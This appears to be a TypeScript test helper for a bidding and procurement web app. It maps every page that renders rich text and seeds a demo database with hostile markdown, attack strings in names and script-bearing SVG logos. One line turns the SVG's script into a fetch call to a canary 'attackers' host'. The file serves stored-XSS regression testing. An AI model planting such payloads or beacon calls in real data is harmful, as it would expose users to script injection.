import {
  hostileMarkdown,
  canaryHost,
  hostileDrawing,
  nameAttacks,
} from '@bidboard/backend/testing/files/hostile-markup';
import type { Page } from 'playwright-core';
import type { DemoPerson } from '../../demo/demo-people.ts';
import { wireOf } from '@bidboard/backend/kernel/text/rich-text';
import { sql, type Database } from '@bidboard/backend/platform/database/database';
import { row, text } from '@bidboard/backend/platform/database/row';
import { rebuildProjections } from '@bidboard/backend/app/jobs';
import type { TestDatabase } from '@bidboard/backend/testing/servers/test-database';

/** A place where rich text is drawn for a user. */
export interface RichTextPlace {
  /** The files below frontend/src/features that draw or edit it. */
  files: readonly string[];
  who: DemoPerson | 'visitor';
  path(at: PoisonedDemo): string;
  /** The steps from there until it is drawn. */
  open?(page: Page): Promise<void>;
}

const press = (name: string | RegExp) => (page: Page) => page.getByRole('button', { name }).first().click();

/** Fills in all of it and has the editor show what readers would see. */
const preview = (label: string | RegExp) => async (page: Page) => {
  const field = page.getByRole('textbox', { name: label }).first();
  await field.fill(hostileMarkdown);
  await page.getByRole('button', { name: 'Preview' }).first().click();
};

const toAnswer =
  (step: string) =>
  ({ live }: PoisonedDemo) =>
    `/app/submit-rfp/${live}?step=${step}`;

/** All places: a file that draws rich text and is not listed here fails a test. */
export const richTextPlaces: readonly RichTextPlace[] = [
  {
    files: ['catalogue/product/product-view.tsx'],
    who: 'visitor',
    path: ({ products }) => `/product/any?search=${products[0]}`,
  },
  {
    files: ['catalogue/category-content/category-content.tsx'],
    who: 'visitor',
    path: () => '/category/identity-access',
  },
  {
    files: ['catalogue/compare/compare-table.tsx'],
    who: 'visitor',
    path: ({ products }) => `/compare?products=${products.join()}`,
    open: press('Show all'),
  },
  {
    files: ['companies/company-facts.tsx'],
    who: 'meridian',
    path: toAnswer('companyInformation'),
  },
  {
    files: ['responses/project/project-view.tsx'],
    who: 'meridian',
    path: toAnswer('projectInformation'),
  },
  {
    files: ['responses/answers/answers-step.tsx'],
    who: 'meridian',
    path: toAnswer('technicalRequirements'),
  },
  {
    files: ['rfps/terms/bidboard-nda-reader.tsx'],
    who: 'meridian',
    path: toAnswer('nda'),
    open: press('Read Bidboard’s NDA'),
  },
  {
    files: ['addenda/addendum-text.tsx'],
    who: 'meridian',
    path: ({ live }) => `/app/submit-rfp/${live}?step=vendorInvite&read=addenda`,
  },
  {
    files: ['rfps/open-rfps/open-rfp-page.tsx'],
    who: 'operator',
    path: ({ live }) => `/app/open-rfps/${live}`,
  },
  {
    files: ['catalogue/category-content/content-form.tsx'],
    who: 'operator',
    path: () => `/app/catalogue/categories/${encodeURIComponent('Identity & Access')}`,
    open: preview('Description'),
  },
  {
    files: ['companies/company-fields.tsx'],
    who: 'buyer',
    path: () => '/app/additional-information',
    open: preview('Overview'),
  },
  {
    files: ['rfps/project/project-form.tsx'],
    who: 'buyer',
    path: ({ draft }) => `/app/update-rfp/${draft}?step=projectInformation`,
    open: preview('Project Description'),
  },
  {
    files: ['rfps/requirements/overview-field.tsx'],
    who: 'buyer',
    path: ({ draft }) => `/app/update-rfp/${draft}?step=technicalRequirements`,
    open: preview('Overview'),
  },
  {
    files: ['addenda/addenda-panel.tsx'],
    who: 'buyer',
    path: ({ live }) => `/app/dashboard-rfp/${live}?tab=vendor-questions`,
    async open(page) {
      await press('New addendum')(page);
      await preview('Message to vendors')(page);
    },
  },
  {
    files: ['products/product-fields.tsx'],
    who: 'calder',
    path: () => '/app/additional-information?start_point=add_product',
    open: preview('Product information'),
  },
];

/** The part of the demo that the tests visit. */
export interface PoisonedDemo {
  live: string;
  draft: string;
  products: readonly string[];
  /** The hash under which the drawing is served. */
  logoHash: string;
}

const names = () =>
  sql.array(
    nameAttacks.map((attack) => attack.text),
    'text',
  );
const anyOf = (key: string) =>
  sql.fragment`(${names()})[1 + abs(hashtext(${sql.identifier([key])}::text)) % ${nameAttacks.length}::int4]`;

/**
 * Writes attacks into every text of the demo that pages show. It bypasses the commands, so the pages themselves are the only
 * defence between table and screen.
 */
export async function poison({ database, url }: TestDatabase): Promise<PoisonedDemo> {
  const rich = wireOf(hostileMarkdown);
  const rfpOf = (name: string) =>
    database.oneFirst(sql.type(row({ id: text }))`select id::text from rfp where name like ${`${name}%`}`);
  const [live, draft] = [await rfpOf('Identity & Access Platform'), await rfpOf('Fleet Telematics')];
  const products = await database.anyFirst(sql.type(row({ id: text }))`
    select object_id::text as id from catalogue_product where category = 'Identity & Access' order by product limit 2`);
  await write(database, rich, live);
  const logoHash = await drawLogos(database);
  await rebuildProjections({ databaseUrl: url, log: () => undefined });
  return { live, draft, products, logoHash };
}

async function write(database: Database, rich: string, live: string): Promise<void> {
  for (const statement of [
    sql.statement`update company set overview = ${rich}, name = name || ' ' || ${anyOf('id')}`,
    sql.statement`update app_user set user_name = user_name || ' ' || ${anyOf('id')}`,
    sql.statement`update rfp set project_description = ${rich}`,
    sql.statement`update rfp set scope = 'public' where id = ${live}`,
    sql.statement`update requirements set overview = ${rich}`,
    sql.statement`update question set text = text || ' ' || ${anyOf('id')}`,
    sql.statement`update answer set answer = ${anyOf('question_id')} where length(answer) > 3`,
    sql.statement`update milestone set description = ${anyOf('position')}`,
    sql.statement`update stored_file set given_name = ${anyOf('id')} || '.pdf'`,
    sql.statement`
      update catalogue_product set product = product || ' ' || ${anyOf('object_id')}, rich_description = ${hostileMarkdown}
      where category = 'Identity & Access'`,
    sql.statement`update catalogue_category_content set description = ${hostileMarkdown}`,
    sql.statement`
      insert into addendum (rfp_id, number, title, text, changes, adds_questions, published_by, published_at)
      select id, 1 + coalesce((select max(number) from addendum a where a.rfp_id = r.id), 0),
        ${nameAttacks[0]?.text ?? ''}, ${hostileMarkdown}, '[]', false, owner_id, now() from rfp r where id = ${live}`,
  ])
    await database.query(statement);
}

/** Replaces every drawing of the catalogue with the hostile one, whose scripts contact the attackers' host. */
async function drawLogos(database: Database): Promise<string> {
  const drawing = hostileDrawing().replaceAll('__ran=1', `fetch('https://${canaryHost}/ran')`);
  await database.query(sql.statement`update catalogue_logo set svg = ${drawing}`);
  return database.oneFirst(sql.type(row({ hash: text }))`
    select logo as hash from catalogue_product where logo in (select hash from catalogue_logo) order by product limit 1`);
}
